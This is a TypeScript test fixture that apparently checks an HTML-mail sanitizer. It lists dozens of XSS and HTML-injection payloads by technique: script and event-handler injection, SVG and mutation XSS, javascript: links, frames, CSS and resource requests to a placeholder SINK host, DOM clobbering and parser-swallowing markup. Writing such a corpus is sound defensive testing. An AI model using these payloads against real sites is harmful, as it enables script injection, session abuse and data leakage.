/**
 * HTML that tries to run scripts, to send requests, to navigate away or to leave its frame. A script that runs would set
 * `hacked`; SINK is a server that counts requests.
 */
const RUN = 'top.hacked=parent.hacked=self.hacked=1';

export const HOSTILE: Record<string, string[]> = {
	scripts: [
		`<script>${RUN}</script>`,
		`<SCRIPT SRC=//SINK/script.js></SCRIPT>`,
		`<script/x>${RUN}</script/x>`,
		`<scr<script>ipt>${RUN}</scr</script>ipt>`,
		`<<script>${RUN}//<</script>`,
		`<script type="module" src="//SINK/module.js"></script>`,
		`<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
		`<template><script>${RUN}</script></template><template shadowrootmode=open><script>${RUN}</script><img src=//SINK/shadow onerror=${RUN}></template>`,
	],
	handlers: [
		`<img src=x onerror=${RUN}>`,
		`<img src=x:x onerror\n=\n"${RUN}">`,
		`<body onload=${RUN} onpageshow=${RUN} background=//SINK/body>`,
		`<details open ontoggle=${RUN}>x</details>`,
		`<div onpointerenter=${RUN} onmouseover=${RUN} style="position:fixed;inset:0">over everything</div>`,
		`<input autofocus onfocus=${RUN}>`,
		`<p tabindex=1 autofocus onfocus=${RUN}>x</p>`,
		`<marquee onstart=${RUN}>x</marquee>`,
		`<p style="animation:x 1s" onanimationstart=${RUN}>x</p>`,
		`<video autoplay onloadstart=${RUN} src=//SINK/v poster=//SINK/poster><source onerror=${RUN} src=//SINK/s></video>`,
		`<audio src=//SINK/a onerror=${RUN}></audio>`,
		`<a href=# accesskey=x onclick=${RUN}>a</a><button popovertarget=p onclick=${RUN}>b</button><div popover id=p onbeforetoggle=${RUN}>c</div>`,
	],
	svg: [
		`<svg onload=${RUN}><script>${RUN}</script></svg>`,
		`<svg><a xlink:href="javascript:${RUN}"><text y=20>svg link</text></a></svg>`,
		`<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
		`<svg><use href="//SINK/use.svg#x"/><image href="//SINK/image"/><feImage href="//SINK/feimage"/></svg>`,
		`<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
		`<svg><set attributeName=href to="javascript:${RUN}"><a id=s><text>x</text></a></svg>`,
		`<svg><style>@import "//SINK/svg.css";</style></svg>`,
		`<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'><image href='http://SINK/in-data'/></svg>">`,
	],
	mutation: [
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
		`<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
		`<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
		`<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
		`<math href="javascript:${RUN}"><mi xlink:href="javascript:${RUN}">math link</mi></math>`,
		`<select><noembed></select><script x='a@b'y='a'>${RUN}</script>`,
		`<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
		`<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
		`<title><img title="</title><img src=x onerror=${RUN}>"></title>`,
		`<svg><title><style><img title="</style></title></svg><img src=x onerror=${RUN}>"></svg>`,
		`<a><table><td><a href="javascript:${RUN}">adopted</a></td></table></a>`,
		`<!--><img src=x onerror=${RUN}>--><!--!><img src=x onerror=${RUN}>--!>`,
		`<?xml ?><![CDATA[<img src=x onerror=${RUN}>]]>`,
	],
	frames: [
		`<iframe src="javascript:${RUN}"></iframe>`,
		`<iframe srcdoc="<script>${RUN}</script>" sandbox="allow-scripts allow-same-origin"></iframe>`,
		`<iframe src=//SINK/iframe></iframe><frameset><frame src=//SINK/frame></frameset>`,
		`<object data="data:text/html,<script>${RUN}</script>"></object><object data=//SINK/object></object>`,
		`<embed src=//SINK/embed><embed code="//SINK/code" allowscriptaccess=always>`,
		`<applet code=//SINK/applet></applet><portal src=//SINK/portal></portal>`,
	],
	leading: [
		`<meta http-equiv=refresh content="0;url=http://SINK/refresh">`,
		`<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">`,
		`<base href="http://SINK/base/"><img src=based.png><a href=based target=_top>based</a>`,
		`<a href="http://SINK/top" target=_top ping=//SINK/ping>to the top</a>`,
		`<a href="javascript:${RUN}">script link</a><a href="jav&#x09;ascript:${RUN}">tab link</a>`,
		`<a href=" &#14; javascript:${RUN}">space link</a><a href="JaVaScRiPt&colon;${RUN}">colon link</a>`,
		`<a href="data:text/html,<script>${RUN}</script>">data link</a><a href="vbscript:x">vb</a><a href="blob:http://SINK/x">blob</a>`,
		`<area shape=default href="javascript:${RUN}"><map name=m><area href="javascript:${RUN}"></map>`,
		`<form action=//SINK/form method=post><input name=q value=1><input type=image src=//SINK/input formaction="javascript:${RUN}"><button>Send</button></form>`,
		`<form id=f></form><button form=f formaction=//SINK/formaction>Outside</button><isindex action=//SINK/isindex>`,
		`<dialog open><form method=dialog><button autofocus>ok</button></form></dialog>`,
	],
	fetching: [
		`<link rel=stylesheet href=//SINK/style.css><link rel=prefetch href=//SINK/prefetch><link rel=preload as=image href=//SINK/preload>`,
		`<link rel=dns-prefetch href=//dns.SINK><link rel=preconnect href=http://SINK><link rel=modulepreload href=//SINK/m.js><link rel=icon href=//SINK/icon><link rel=manifest href=//SINK/manifest><link rel=import href=//SINK/import>`,
		`<link rel=prerender href=//SINK/prerender><script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://SINK/speculation"]}]}</script>`,
		`<img src=//SINK/pixel><img srcset="//SINK/set 1x, http://SINK/set2 2x"><img lowsrc=//SINK/low dynsrc=//SINK/dyn longdesc=//SINK/long>`,
		`<picture><source srcset=//SINK/source><img src=x></picture><table background=//SINK/table><td background=//SINK/td>x</td></table>`,
		`<img src="h&#x74;tp://SINK/entity"><img src="\\\\SINK\\share"><img src="/\\SINK/slash"><img src="cid:x"><image src=//SINK/image>`,
		`<bgsound src=//SINK/sound><track src=//SINK/track><xml src=//SINK/xml></xml><body background="//SINK/background">`,
		`<img src=/api/auth/sign-out><img src=../../api/runs>`,
	],
	styles: [
		`<style>@import url(//SINK/import.css);*{background:url(//SINK/everything)}</style>`,
		`<style>@font-face{font-family:x;src:url(//SINK/font)}p{font-family:x}a[href^=h]{background:url(//SINK/attribute)}</style>`,
		`<p style="background:url(//SINK/inline);list-style:url(//SINK/list);content:url(//SINK/content);cursor:url(//SINK/cursor),auto">x</p>`,
		`<p style="background:\\75\\72\\6c(//SINK/escaped);background:image-set('//SINK/image-set' 1x)">x</p>`,
		`<p style="width:expression(${RUN});behavior:url(#default#time2);-moz-binding:url(//SINK/xbl)">x</p>`,
		`<div style="position:fixed;top:-500px;left:-500px;width:5000px;height:5000px;z-index:2147483647;background:red">cover</div>`,
		`<style>:root{--x:url(//SINK/var)}body{background:var(--x);display:none}</style>`,
	],
	clobbering: [
		`<img name=body><img name=documentElement><img name=defaultView><img name=URL><a id=contentDocument name=contentDocument></a>`,
		`<form name=parentNode><input name=childNodes><input name=attributes><input id=nodeName></form>`,
		`<a id=top></a><a id=parent name=location href=//SINK/clobbered></a><a id=root></a><div id=content></div>`,
		`<custom-element onconnected=${RUN} is=x></custom-element><slot name=x onslotchange=${RUN}></slot>`,
	],
};

/** Constructs that swallow everything after them, so each must be the last in a separate mail. */
export const SWALLOWING = [
	`<p>before</p><plaintext><img src=x onerror=${RUN}>`,
	`<p>before</p><!-- <img src=x onerror=${RUN}>`,
	`<p>before</p><img title="<script>${RUN}</script><img src=//SINK/dangling?`,
	`<p>before</p><style><img src=x onerror=${RUN}>`,
	`<p>before</p><textarea><script>${RUN}</script>`,
	`<p>before</p><a href='http://SINK/open `,
	`\uFEFF<script>${RUN}</script><p>before</p>`,
	`<p>before</p>${'<div>'.repeat(4000)}<script>${RUN}</script><img src=//SINK/deep>`,
	`<p>before</p>${'<b><i><table>'.repeat(300)}<img src=x onerror=${RUN}>`,
];

export const aimedAt = (html: string, sink: string) => html.replaceAll('SINK', sink);
